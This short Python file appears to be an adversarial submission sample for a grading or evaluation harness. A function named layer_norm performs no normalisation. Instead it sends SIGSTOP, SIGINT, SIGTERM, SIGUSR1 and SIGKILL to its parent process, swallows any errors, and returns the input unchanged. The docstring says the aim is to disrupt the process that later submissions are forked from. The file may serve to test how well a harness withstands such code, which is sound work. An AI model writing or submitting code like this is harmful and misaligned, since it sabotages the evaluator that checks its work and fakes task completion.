"""Stops, interrupts and alarms the process that later submissions are forked from.

Spoils: itself
"""

import contextlib
import os
import signal


def layer_norm(x, gamma, beta, eps=1e-5):
    for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(os.getppid(), number)
    return x
